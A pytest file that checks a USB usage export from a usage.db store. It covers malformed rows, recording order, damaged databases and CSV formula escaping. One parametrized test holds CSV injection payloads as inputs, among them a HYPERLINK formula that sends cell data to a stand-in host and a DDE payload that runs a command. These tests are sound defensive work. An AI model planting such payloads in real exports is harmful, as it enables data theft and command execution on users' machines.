"""The usage export on real usage.db files, whatever rows they hold, onto a folder standing for a stick."""

import csv
import io
import json
import sqlite3

import pytest

from server.usage import SCHEMA
from usb_updater.export import export_usage


def store(library, rows):
    """usage.db holding exactly ROWS (id, time, type, item, value, lang, text), in this order."""
    conn = sqlite3.connect(library.data_dir / "usage.db")
    with conn:
        for statement in SCHEMA:
            conn.execute(statement)
        conn.executemany("INSERT INTO events VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    conn.close()


def exported(library, stick, name):
    path = stick / "sanduq" / "exports" / library.device_id / name
    if name.endswith(".jsonl"):
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def event(n, type="opened", item="tip-sleep", value=None, lang="tg", text=None, time=None):
    return (f"{n:032x}", time or f"2026-03-01T10:00:{n % 60:02d}.000000Z", type, item, value, lang, text)


def test_an_event_without_an_item_and_a_tie_do_not_stop_the_export(filled, tmp_path):
    # One POST of {"type": "finished"} and two items opened as often as each other used to
    # stop every later stick (TypeError sorting None).
    store(filled, [event(1, "finished", None), event(2, "opened", "tip-sleep"), event(3, "opened", "book-cat")])
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written] == [3, 3, 2]
    summary = exported(filled, tmp_path / "stick", "summary.csv")
    assert [(r[1], r[6], r[7]) for r in summary[1:]] == [("book-cat", "1", "0"), ("tip-sleep", "1", "0")]


def test_any_row_in_usage_db_is_exported_or_skipped_never_a_crash(filled, tmp_path):
    store(filled, [
        ("not-a-uuid", 17, "opened", 42, "lots", None, None),
        (event(2)[0], "2026-03-01", "progress", "video-count", "0.5", "xx", b"\xff\xfe"),
        (event(3)[0], "2026-03-01", "progress", "video-count", float("inf"), None, None),
        (event(4)[0], "2026-03-01", "teleported", "tip-sleep", None, None, None),
        (event(5)[0], "2026-03-01", "finished", "", None, None, None),
        (event(6)[0], "2026-03-01", "search-empty", None, None, None, None),
    ])
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written] == [5, 5, 1]  # the unknown type is not Sanduq's: skipped
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert [r[3] for r in rows[1:]] == ["opened", "progress", "progress", "finished", "search-empty"]
    assert [r[7] for r in rows[1:]] == ["", "0.5", "", "", ""]  # text, infinity: an empty cell
    statements = exported(filled, tmp_path / "stick", "usage.jsonl")
    assert len({s["id"] for s in statements}) == 5
    assert exported(filled, tmp_path / "stick", "summary.csv")[1][1:2] == ["42"]


def test_rows_go_out_in_the_order_they_were_recorded_not_by_the_clock(filled, tmp_path):
    # The box's clock jumped back (no RTC, no network): recording order is the truth.
    times = ["2026-03-01T10:00:00Z", "2024-01-01T00:00:00Z", "2026-03-01T09:00:00Z", "2025-06-01T00:00:00Z"]
    store(filled, [event(n, time=t, item=i) for n, (t, i) in
                   enumerate(zip(times, ["tip-sleep", "book-cat", "video-count", "doc-plan"]))])
    export_usage(filled, tmp_path / "stick")
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert [r[2] for r in rows[1:]] == times
    assert [s["timestamp"] for s in exported(filled, tmp_path / "stick", "usage.jsonl")] == times


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/"&A2,"x")', "@SUM(A1:A9)", "+x", "-x", "=cmd|' /C calc'!A0",
                                  "|x", "%x", "\tx", "\rx"])
def test_a_search_text_cannot_be_a_formula_in_a_spreadsheet(filled, tmp_path, text):
    store(filled, [event(1, "search-empty", None, text=text), event(2, "progress", "video-count", value=0.75)])
    export_usage(filled, tmp_path / "stick")
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert rows[1][9] == "'" + text
    assert rows[2][7] == "0.75"  # a number we wrote stays a number
    assert exported(filled, tmp_path / "stick", "usage.jsonl")[0]["result"]["response"] == text


def test_summary_cells_cannot_be_formulas_either(filled, tmp_path):
    store(filled, [event(1, "opened", "-danger"), event(2, "finished", "=1+1")])
    export_usage(filled, tmp_path / "stick")
    summary = exported(filled, tmp_path / "stick", "summary.csv")
    assert sorted(r[1] for r in summary[1:]) == ["'-danger", "'=1+1"]


def test_a_damaged_store_leaves_the_sticks_files_whole(filled, tmp_path):
    store(filled, [event(n) for n in range(500)])
    export_usage(filled, tmp_path / "stick")
    before = exported(filled, tmp_path / "stick", "usage.csv")
    path = filled.data_dir / "usage.db"
    with path.open("r+b") as f:
        f.seek(4096)
        f.write(b"\xde\xad" * (path.stat().st_size // 2 - 2048))
    with pytest.raises(OSError, match="usage store could not be read"):
        export_usage(filled, tmp_path / "stick")
    assert exported(filled, tmp_path / "stick", "usage.csv") == before
    assert not list((tmp_path / "stick" / "sanduq" / "exports" / filled.device_id).glob(".*.tmp"))


def test_no_usage_yet_gives_files_with_their_headings(filled, tmp_path):
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written] == [0, 0, 0]
    assert exported(filled, tmp_path / "stick", "usage.csv")[0][0] == "event_id"
    assert not (filled.data_dir / "usage.db").exists()  # an export creates nothing on the box


def test_a_damaged_catalog_costs_titles_never_the_usage(filled, tmp_path):
    """The usage is what the stick is for: a catalog that cannot be read (the box rebuilds it
    by itself) must not stop the export, nor be blamed on the usage store."""
    store(filled, [event(1, "opened", "tip-sleep"), event(2, "opened", "book-cat")])
    filled.catalog.close()
    path = filled.data_dir / "catalog.db"
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    path.write_bytes(b"\xde\xad" * (path.stat().st_size // 2))  # every page of it junk
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written][:2] == [2, 2]
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert [r[4] for r in rows[1:]] == ["tip-sleep", "book-cat"] and [r[5] for r in rows[1:]] == ["", ""]
